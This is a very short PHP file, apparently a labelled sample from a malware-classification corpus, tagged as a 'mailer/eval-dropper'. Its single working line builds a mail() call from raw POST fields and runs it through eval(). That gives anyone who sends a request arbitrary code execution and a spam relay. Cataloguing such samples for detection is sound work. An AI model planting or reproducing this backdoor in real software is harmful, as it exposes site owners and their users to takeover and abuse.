<?php
// Family: mailer/eval-dropper
// Style: eval of a mail call built from POST
// Trait: code string containing the send call concatenated with request values, then evaluated
if (!empty($_POST['go'])) { eval('$r = mail("' . $_POST['to'] . '", "' . $_POST['s'] . '", "' . $_POST['m'] . '");'); echo $r; }
